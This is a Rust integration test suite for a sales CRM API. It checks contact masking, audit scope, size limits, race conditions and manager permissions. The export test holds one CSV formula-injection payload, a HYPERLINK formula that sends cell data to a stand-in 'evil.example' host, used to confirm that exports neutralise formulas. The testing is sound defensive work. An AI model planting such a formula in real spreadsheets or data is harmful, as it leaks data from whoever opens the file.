//! Issue 14, "Trust": what a rep or manager with a valid token must not be able to read,
//! break or undo. Each case attacks one promise: the pool's contacts stay hidden until a
//! claim (search, export, notes, the 409 included), the audit trail stays in scope, an
//! export never carries a live formula, every request collection is bounded before work,
//! valid-looking input never answers 500, a rep edit never undoes another, and reminders
//! say what is true now.

use allot_tests::harness::Suite;
use std::time::{Duration, Instant};

use allot_tests::now_ms;
use serde_json::{json, Value};
use shared::ids::Role;

use super::{created, error_shape, ids_of, World};

/// This file's cases.
pub fn cases(suite: Suite<World>) -> Suite<World> {
    suite
        .case("trust_search_never_matches_a_hidden_contact", search_never_matches_a_hidden_contact)
        .case("trust_a_manager_reads_only_audits_in_scope", a_manager_reads_only_audits_in_scope)
        .case("trust_export_guards_formulas_and_imports_them_back", export_guards_formulas_and_imports_them_back)
        .case("trust_collections_are_bounded_before_work", collections_are_bounded_before_work)
        .case("trust_valid_looking_input_never_causes_a_500", valid_looking_input_never_causes_a_500)
        .case("trust_a_capacity_edit_never_undoes_a_deactivation", a_capacity_edit_never_undoes_a_deactivation)
        .case("trust_reminders_are_rechecked_and_never_crowded_out", reminders_are_rechecked_and_never_crowded_out)
        .case("trust_a_manager_changes_only_their_reps", a_manager_changes_only_their_reps)
}

fn found(api: &allot_tests::Api, path: &str) -> Vec<String> {
    let page = api.get(path);
    assert_eq!(page.status, 200, "{path}: {}", page.text);
    ids_of(&page.body)
}

/// Item 1: the masking policy holds on every route, and search never matches on a
/// character the caller cannot see.
pub fn search_never_matches_a_hidden_contact(w: &mut World) {
    // Reps of their own, so earlier cases' claims count against no daily limit here.
    let rep = |id: &str| {
        let added = w.admin.post("/api/v1/reps", &json!({"id": id, "name": id, "team": "sales1", "level": "junior", "capacity": 30}));
        assert_eq!(added.status, 201, "{}", added.text);
        w.server.api(&w.server.token("demo", id, Role::Rep))
    };
    let (seer, holder) = (rep("rep-trust-seer"), rep("rep-trust-holder"));
    let pool = created(&w.manager, json!({"name": "信任测试公海甲", "phone": "18400009151", "contact_name": "秘密联系人", "email": "hidden.person@trust.cn", "wechat": "secret_wx", "owner": null}));
    let id = pool["id"].as_str().unwrap().to_string();
    let hidden_digits = ["0000", "84000", "00009", "9151", "18400009151"];
    for q in hidden_digits.iter().copied().chain(["秘密联系人", "hidden.person", "HIDDEN.PERSON"]) {
        for path in [format!("/api/v1/customers?owner=pool&q={q}"), format!("/api/v1/customers?q={q}"), format!("/api/v1/pool?q={q}")] {
            assert!(!found(&seer, &path).contains(&id), "a rep's search matched a hidden contact: {path}");
        }
        let export = seer.get(&format!("/api/v1/customers/export?owner=pool&q={q}"));
        assert_eq!(export.status, 200);
        assert!(!export.text.contains("信任测试公海甲"), "the export matched a hidden contact: q={q}");
    }
    // What the rep sees of it is masked: phone, email, WeChat and the contact's name.
    let seen = seer.get(&format!("/api/v1/customers/{id}")).body;
    assert_eq!(
        (seen["phone"].as_str(), seen["email"].as_str(), seen["wechat"].as_str(), seen["contact_name"].as_str(), seen["masked"].as_bool()),
        (Some("184****9151"), Some("h***@trust.cn"), Some("***"), Some("秘***"), Some(true)),
        "{seen}"
    );
    // The name is always visible, so it matches; a manager sees contacts and matches them.
    assert!(found(&seer, "/api/v1/pool?q=信任测试公海甲").contains(&id));
    for q in ["0000", "秘密联系人", "hidden.person"] {
        assert!(found(&w.manager, &format!("/api/v1/customers?owner=pool&q={q}")).contains(&id), "a manager sees the contacts: q={q}");
    }
    // A query that mixes text and digits is no phone query.
    let text_and_digits = created(&w.wang, json!({"name": "Xlsx Person 5550123", "phone": "13955501234"}));
    assert!(!found(&w.wang, "/api/v1/customers?q=表格客户5550123").contains(&text_and_digits["id"].as_str().unwrap().to_string()));
    assert!(found(&w.wang, "/api/v1/customers?q=139%205550").contains(&text_and_digits["id"].as_str().unwrap().to_string()), "an owner's phone matches");

    // Follow-up notes and outcomes of a pool customer: hidden from reps.
    let logged = w.manager.post(&format!("/api/v1/customers/{id}/follow-ups"), &json!({"kind": "call", "note": "他的新号 13800001111", "outcome": "换号了 13800001111"}));
    assert_eq!(logged.status, 201, "{}", logged.text);
    let log = seer.get(&format!("/api/v1/customers/{id}/follow-ups"));
    assert_eq!(log.status, 200);
    assert!(!log.text.contains("13800001111"), "a follow-up note leaks: {}", log.text);
    assert!(w.manager.get(&format!("/api/v1/customers/{id}/follow-ups")).text.contains("13800001111"), "the manager reads it");

    // Release notes: the pool list and the audit trail show the code, not the note.
    let other = created(&w.manager, json!({"name": "信任测试公海乙", "phone": "18500007777", "owner": null}));
    let other_id = other["id"].as_str().unwrap().to_string();
    assert_eq!(holder.send("POST", &format!("/api/v1/customers/{other_id}/claim"), "application/json", b"").status, 200);
    let released = holder.post(&format!("/api/v1/customers/{other_id}/release"), &json!({"reason_code": "other", "note": "打他私人号 13700002222"}));
    assert_eq!(released.status, 200, "{}", released.text);
    let listed = seer.get("/api/v1/pool?q=信任测试公海乙");
    assert!(!listed.text.contains("13700002222"), "the pool note leaks: {}", listed.text);
    assert_eq!(listed.body["items"][0]["pool_note"].as_str(), Some("other"));
    let trail = seer.get(&format!("/api/v1/audit?customer={other_id}"));
    assert_eq!(trail.status, 200);
    assert!(!trail.text.contains("13700002222"), "the audit reason leaks: {}", trail.text);
    assert!(w.manager.get(&format!("/api/v1/audit?customer={other_id}")).text.contains("13700002222"), "the manager reads the note");

    // The 409: a pool customer's id is not tied to a phone the rep guessed.
    let guess = seer.post("/api/v1/customers", &json!({"name": "猜号", "phone": "184 0000 9151"}));
    assert_eq!((guess.status, guess.code()), (409, "duplicate"), "{}", guess.text);
    assert!(!guess.text.contains(&id), "the 409 ties the guessed phone to the record: {}", guess.text);
    for secret in ["秘密联系人", "hidden.person", "信任测试公海甲"] {
        assert!(!guess.text.contains(secret), "409 leaks {secret}");
    }

    // Once claimed, the contacts are the rep's: unmasked, and searchable.
    assert_eq!(seer.send("POST", &format!("/api/v1/customers/{id}/claim"), "application/json", b"").status, 200);
    assert!(found(&seer, "/api/v1/customers?q=0000").contains(&id));
    assert_eq!(seer.get(&format!("/api/v1/customers/{id}")).body["phone"].as_str(), Some("18400009151"));
}

/// Item 2: `GET /audit` answers within the scope of `GET /customers/{id}`.
pub fn a_manager_reads_only_audits_in_scope(w: &mut World) {
    let elsewhere = created(&w.emily, json!({"name": "信任测试二组客户", "contact_name": "二组联系人"}));
    let elsewhere = elsewhere["id"].as_str().unwrap();
    assert_eq!(w.manager.get(&format!("/api/v1/customers/{elsewhere}")).status, 404, "another team's customer is out of scope");
    let trail = w.manager.get(&format!("/api/v1/audit?customer={elsewhere}"));
    assert_eq!((trail.status, trail.code()), (404, "not_found"), "a manager read another team's audit trail: {}", trail.text);
    assert!(!trail.text.contains("rep-emily"));
    assert_eq!(w.admin.get(&format!("/api/v1/audit?customer={elsewhere}")).status, 200);
    assert_eq!(w.emily.get(&format!("/api/v1/audit?customer={elsewhere}")).status, 200);
    // Deleted: within the scope it had.
    assert_eq!(w.admin.delete(&format!("/api/v1/customers/{elsewhere}")).status, 200);
    assert_eq!(w.manager.get(&format!("/api/v1/audit?customer={elsewhere}")).status, 404, "deleted, still another team's");
    assert_eq!(w.admin.get(&format!("/api/v1/audit?customer={elsewhere}")).status, 200);
    let own_team = created(&w.wang, json!({"name": "信任测试一组客户"}));
    let own_team = own_team["id"].as_str().unwrap();
    assert_eq!(w.manager.get(&format!("/api/v1/audit?customer={own_team}")).status, 200);
    assert_eq!(w.manager.delete(&format!("/api/v1/customers/{own_team}")).status, 200);
    let deleted = w.manager.get(&format!("/api/v1/audit?customer={own_team}"));
    assert_eq!(deleted.status, 200, "their team's deleted customer stays auditable");
    assert_eq!(deleted.body["items"].as_array().and_then(|a| a.last()).map(|e| e["action"].clone()), Some(json!("delete")));
}

/// Item 3: no cell of the export starts a formula; importing the export gives back the
/// original values.
pub fn export_guards_formulas_and_imports_them_back(w: &mut World) {
    let formula = r#"=HYPERLINK("http://evil.example/?q="&A1,"点我")"#;
    created(&w.wang, json!({"name": formula, "company": "@信任测试公式公司", "tags": ["-信任"], "source": "+官网"}));
    let export = w.wang.get("/api/v1/customers/export?owner=me&q=hyperlink");
    assert_eq!(export.status, 200);
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(export.text.trim_start_matches('\u{feff}').as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("csv row")).collect();
    assert_eq!(rows.len(), 1, "{}", export.text);
    for cell in rows[0].iter() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live formula in the export: {cell:?}");
    }
    assert_eq!(&rows[0][0], format!("'{formula}"));
    // Round trip: into another tenant, the same values come back.
    // (Its owner column names a user acme does not have: left out, as `imports` shows.)
    let imported = w.acme.send("POST", "/api/v1/customers/import", "text/csv", export.text.replacen("负责人", "原负责人", 1).as_bytes());
    assert_eq!((imported.status, imported.body["created"].as_u64()), (200, Some(1)), "{}", imported.text);
    let copy = w.acme.get("/api/v1/customers?q=信任测试公式公司").body;
    let c = &copy["items"][0];
    assert_eq!((c["name"].as_str(), c["company"].as_str(), c["source"].as_str()), (Some(formula), Some("@信任测试公式公司"), Some("+官网")), "{copy}");
    assert_eq!(c["tags"], json!(["-信任"]));
}

/// Item 5: every collection a request carries is bounded before any work, with a 400
/// that names the limit.
pub fn collections_are_bounded_before_work(w: &mut World) {
    // 120,000 distinct tags in under 1 MB: deduplicating them first would take seconds.
    let tags: Vec<String> = (0..120_000).map(|i| format!("{i:x}")).collect();
    let started = Instant::now();
    let answer = w.wang.post("/api/v1/customers", &json!({"name": "标签风暴", "tags": tags}));
    let took = started.elapsed();
    assert_eq!((answer.status, answer.code()), (400, "invalid"), "{}", &answer.text[..answer.text.len().min(300)]);
    let fields = answer.body["error"]["details"]["fields"].as_array().unwrap();
    assert_eq!(fields.len(), 1, "refused before looking at each tag");
    assert_eq!((fields[0]["path"].as_str(), fields[0]["code"].as_str()), (Some("tags"), Some("too_many")));
    assert!(fields[0]["message"].as_str().unwrap().contains("at most 20"));
    assert!(took < Duration::from_secs(3), "bounded before the work: {took:?}");
    let named = |answer: &allot_tests::Answer, path: &str| {
        assert_eq!(answer.status, 400, "{path}: {}", &answer.text[..answer.text.len().min(300)]);
        error_shape(answer);
        let fields = answer.body["error"]["details"]["fields"].as_array().cloned().unwrap_or_default();
        assert!(fields.iter().any(|f| f["path"] == json!(path) && f["code"] == json!("too_many") && f["message"].as_str().is_some_and(|m| m.contains("at most"))), "{path}: {}", answer.text);
    };
    let custom: serde_json::Map<String, Value> = (0..60).map(|i| (format!("k{i}"), json!("v"))).collect();
    named(&w.wang.post("/api/v1/customers", &json!({"name": "字段风暴", "custom": custom})), "custom");
    let ids: Vec<String> = (0..5_001).map(|i| format!("c_{i}")).collect();
    named(&w.manager.post("/api/v1/allocations/preview", &json!({"customer_ids": ids})), "customer_ids");
    named(&w.manager.post("/api/v1/pool/distribute", &json!({"customer_ids": ids})), "customer_ids");
    let skills: Vec<String> = (0..1_000).map(|i| format!("i{i}")).collect();
    named(&w.admin.patch("/api/v1/reps/rep-zhou", &json!({"industries": skills})), "industries");
    // Documents: checked before anything is stored.
    let mut settings = w.admin.get("/api/v1/settings").body;
    settings["industries"] = Value::Array((0..200).map(|i| json!({"key": format!("ind{i}"), "zh": "行业", "en": "Industry"})).collect());
    named(&w.admin.put("/api/v1/settings", &settings), "industries");
    let mut rules = w.admin.get("/api/v1/pool/rules").body;
    let first = rules["pools"][0].clone();
    rules["pools"] = Value::Array(
        (0..30)
            .map(|i| {
                let mut p = first.clone();
                p["key"] = json!(format!("p{i}"));
                p
            })
            .collect(),
    );
    named(&w.admin.put("/api/v1/pool/rules", &rules), "pools");
    let mut stages = w.admin.get("/api/v1/settings").body;
    let version = stages["version"].clone();
    let lead = stages["stages"][0].clone();
    let many: Vec<Value> = (0..40)
        .map(|i| {
            let mut s = lead.clone();
            s["key"] = json!(format!("s{i}"));
            s
        })
        .chain(stages["stages"].as_array().unwrap()[1..].iter().cloned())
        .collect();
    stages = json!({"version": version, "stages": many});
    named(&w.admin.put("/api/v1/pipeline/stages", &stages), "stages");
}

/// Item 6: inputs that look valid never answer 500, and a query is never silently
/// dropped.
pub fn valid_looking_input_never_causes_a_500(w: &mut World) {
    let pct = created(&w.wang, json!({"name": "信任测试100%_off折扣店"}));
    let pct = pct["id"].as_str().unwrap().to_string();
    // Past SQLite's 50-byte LIKE pattern, and up to the limit: 200.
    for q in ["a".repeat(49), "a".repeat(100), "折".repeat(17), "折".repeat(100)] {
        let answer = w.wang.get(&format!("/api/v1/customers?q={q}"));
        assert_eq!(answer.status, 200, "q of {} characters: {}", q.chars().count(), answer.text);
        assert_eq!(w.wang.get(&format!("/api/v1/pool?q={q}")).status, 200);
        assert_eq!(w.wang.get(&format!("/api/v1/customers/export?q={q}")).status, 200);
    }
    // Over it: a 400 naming the limit, never an unfiltered list.
    for path in ["/api/v1/customers", "/api/v1/pool", "/api/v1/customers/export"] {
        let answer = w.wang.get(&format!("{path}?q={}", "a".repeat(101)));
        assert_eq!((answer.status, answer.code()), (400, "invalid"), "{path}: {}", &answer.text[..answer.text.len().min(200)]);
        assert!(answer.text.contains("100"), "{}", answer.text);
    }
    // `%` and `_` are text, not wildcards.
    assert_eq!(found(&w.wang, "/api/v1/customers?q=100%25_off"), vec![pct.clone()]);
    assert!(!found(&w.wang, "/api/v1/customers?q=%25").is_empty());
    assert!(found(&w.wang, "/api/v1/customers?q=1_0").is_empty(), "`_` matches only itself");
    // Dates far outside any calendar: refused, not stored for the reminders to overflow on.
    for at in [i64::MAX, i64::MIN, 9_000_000_000_000_000, -1] {
        let answer = w.wang.post("/api/v1/customers", &json!({"name": "远日期", "next_follow_up_at": at}));
        assert_eq!((answer.status, answer.body["error"]["details"]["fields"][0]["path"].as_str()), (400, Some("next_follow_up_at")), "{at}: {}", answer.text);
        let patched = w.wang.patch(&format!("/api/v1/customers/{pct}"), &json!({"version": 1, "next_follow_up_at": at}));
        assert_eq!(patched.status, 400, "{at}: {}", patched.text);
        let logged = w.wang.post(&format!("/api/v1/customers/{pct}/follow-ups"), &json!({"kind": "call", "note": "n", "next_follow_up_at": at}));
        assert_eq!(logged.status, 400, "{at}: {}", logged.text);
    }
    assert_eq!(w.wang.get("/api/v1/reminders").status, 200);
    // A transfer note has the release note's limit.
    let moved = w.manager.post(&format!("/api/v1/customers/{pct}/transfer"), &json!({"to": "rep-chen", "note": "长".repeat(501)}));
    assert_eq!((moved.status, moved.body["error"]["details"]["fields"][0]["path"].as_str()), (400, Some("note")), "{}", moved.text);
    assert_eq!(w.wang.get(&format!("/api/v1/customers/{pct}")).body["owner"], json!("rep-wang"), "refused: nothing moved");
    // The exact solver over 5,000 customers × 80 reps: a clear 422, never a dead isolate.
    let trust = w.server.api(&w.server.token("trust", "trust-admin", Role::Admin));
    let too_big = trust.post("/api/v1/allocations/preview", &json!({"strategy": "optimal"}));
    assert_eq!((too_big.status, too_big.code()), (422, "optimal_too_large"), "{}", &too_big.text[..too_big.text.len().min(300)]);
    assert!(too_big.text.contains("400000"), "names the limit: {}", too_big.text);
    assert_eq!(too_big.body["error"]["details"]["customers"].as_u64(), Some(5_000));
    let applied = trust.post("/api/v1/allocations", &json!({"strategy": "optimal"}));
    assert_eq!(applied.status, 422, "nothing applied");
    let few: Vec<String> = (1..=100).map(|i| format!("c_trust_{i:05}")).collect();
    let fits = trust.post("/api/v1/allocations/preview", &json!({"strategy": "optimal", "customer_ids": few}));
    assert_eq!((fits.status, fits.body["assignments"].as_array().map(Vec::len)), (200, Some(100)), "{}", &fits.text[..fits.text.len().min(300)]);
    assert_eq!(trust.post("/api/v1/allocations/preview", &json!({"strategy": "combined"})).status, 200, "a greedy strategy takes the whole pool");
}

/// Item 8: a manager's capacity edits racing an admin's deactivation never reactivate
/// the rep; each write changes only the field it sends.
pub fn a_capacity_edit_never_undoes_a_deactivation(w: &mut World) {
    let added = w.admin.post("/api/v1/reps", &json!({"id": "rep-trust-race", "name": "竞态代表", "team": "sales1", "level": "junior", "capacity": 30}));
    assert_eq!(added.status, 201, "{}", added.text);
    let token = w.server.token("demo", "mgr-li", Role::Manager);
    for round in 0..8 {
        assert_eq!(w.admin.patch("/api/v1/reps/rep-trust-race", &json!({"active": true})).status, 200);
        let managers: Vec<_> = (0..3).map(|_| w.server.api(&token)).collect();
        let admin = w.server.api(&w.server.token("demo", "admin", Role::Admin));
        std::thread::scope(|s| {
            for (i, m) in managers.iter().enumerate() {
                s.spawn(move || {
                    for k in 0..6 {
                        let answer = m.patch("/api/v1/reps/rep-trust-race", &json!({"capacity": 31 + i * 10 + k}));
                        assert_eq!(answer.status, 200, "{}", answer.text);
                    }
                });
            }
            s.spawn(move || {
                std::thread::sleep(Duration::from_millis(40 + 15 * round));
                assert_eq!(admin.patch("/api/v1/reps/rep-trust-race", &json!({"active": false})).status, 200);
            });
        });
        let rep = w.admin.get("/api/v1/reps").body["items"].as_array().unwrap().iter().find(|r| r["id"] == json!("rep-trust-race")).cloned().unwrap();
        assert_eq!(rep["active"], json!(false), "round {round}: a capacity edit undid the deactivation: {rep}");
        assert!(rep["capacity"].as_u64().unwrap() > 30, "the capacity edits landed too");
    }
    // Out of a manager's scope: refused, nothing written.
    assert_eq!(w.manager.patch("/api/v1/reps/rep-emily", &json!({"capacity": 1})).status, 404);
    assert_eq!(w.admin.get("/api/v1/reps").body["items"].as_array().unwrap().iter().find(|r| r["id"] == json!("rep-emily")).unwrap()["capacity"], json!(50));
}

/// Item 9: a follow-up ends the recycle warning at once; a team's reminders are never
/// crowded out by pool customers.
pub fn reminders_are_rechecked_and_never_crowded_out(w: &mut World) {
    let acme_rep = w.server.api(&w.server.token("acme", "acme-rep", Role::Rep));
    let recycle_warnings = |api: &allot_tests::Api, id: &str| -> usize {
        let answer = api.get("/api/v1/reminders");
        assert_eq!(answer.status, 200, "{}", answer.text);
        answer.body["items"].as_array().unwrap().iter().filter(|r| r["kind"] == json!("recycle") && r["customer"] == json!(id)).count()
    };
    assert_eq!(w.server.trigger_scheduled(), 200);
    // The maintenance queue's consumer writes the warning a moment after the trigger.
    allot_tests::eventually("warned before the follow-up", || recycle_warnings(&acme_rep, "c_acme_warn") == 1);
    let logged = acme_rep.post("/api/v1/customers/c_acme_warn/follow-ups", &json!({"kind": "call", "note": "跟进了", "next_follow_up_at": now_ms() + 3 * 86_400_000}));
    assert_eq!(logged.status, 201, "{}", logged.text);
    assert_eq!(recycle_warnings(&acme_rep, "c_acme_warn"), 0, "followed up: no recycle warning, even before the job runs again");
    assert_eq!(w.server.trigger_scheduled(), 200);
    std::thread::sleep(std::time::Duration::from_secs(3)); // the queued pass runs meanwhile
    assert_eq!(recycle_warnings(&acme_rep, "c_acme_warn"), 0, "and none after it runs");

    // A team's overdue follow-up, then more than a page of pool customers created later.
    let due = created(&w.wang, json!({"name": "信任测试逾期跟进", "next_follow_up_at": now_ms() - 86_400_000}));
    let due = due["id"].as_str().unwrap().to_string();
    let mut csv = String::from("客户名称,公司\n");
    for i in 0..1_001 {
        csv.push_str(&format!("信任测试公海批{i:04},信任批量公司{i:04}\n"));
    }
    let imported = w.manager.send("POST", "/api/v1/customers/import?to_pool=true", "text/csv", csv.as_bytes());
    assert_eq!((imported.status, imported.body["created"].as_u64()), (200, Some(1_001)), "{}", &imported.text[..imported.text.len().min(300)]);
    let team = w.manager.get("/api/v1/reminders?scope=team");
    assert_eq!(team.status, 200);
    let overdue: Vec<&Value> = team.body["items"].as_array().unwrap().iter().filter(|r| r["customer"] == json!(due)).collect();
    assert_eq!(overdue.len(), 1, "the team's overdue follow-up went missing behind pool rows");
    assert_eq!(overdue[0]["kind"], json!("overdue"));
    assert!(w.wang.get("/api/v1/reminders").body["items"].as_array().unwrap().iter().any(|r| r["customer"] == json!(due)));
}

/// A manager changes their reps' directory records, never their own or another
/// manager's: raising one's own capacity or widening one's regions would tilt allocation
/// and the region ownership rule towards oneself.
pub fn a_manager_changes_only_their_reps(w: &mut World) {
    let peer = w.admin.post("/api/v1/reps", &json!({"id": "mgr-peer", "name": "同组经理", "role": "manager", "level": "senior", "team": "sales1", "capacity": 10}));
    assert_eq!(peer.status, 201, "{}", peer.text);
    let own = w.manager.patch("/api/v1/reps/mgr-li", &json!({"capacity": 999}));
    assert_eq!((own.status, own.code()), (403, "forbidden"), "{}", own.text);
    let other = w.manager.patch("/api/v1/reps/mgr-peer", &json!({"active": false}));
    assert_eq!((other.status, other.code()), (403, "forbidden"), "{}", other.text);
    assert_eq!(w.admin.get("/api/v1/reps").body["items"].as_array().unwrap().iter().find(|r| r["id"] == json!("mgr-peer")).map(|r| r["active"].clone()), Some(json!(true)), "nothing changed");
    let rep = w.admin.get("/api/v1/reps").body["items"].as_array().unwrap().iter().find(|r| r["id"] == json!("rep-wang")).cloned().expect("rep-wang");
    let theirs = w.manager.patch("/api/v1/reps/rep-wang", &json!({"capacity": rep["capacity"]}));
    assert_eq!(theirs.status, 200, "{}", theirs.text);
    let by_admin = w.admin.patch("/api/v1/reps/mgr-peer", &json!({"capacity": 12}));
    assert_eq!(by_admin.status, 200, "{}", by_admin.text);
}
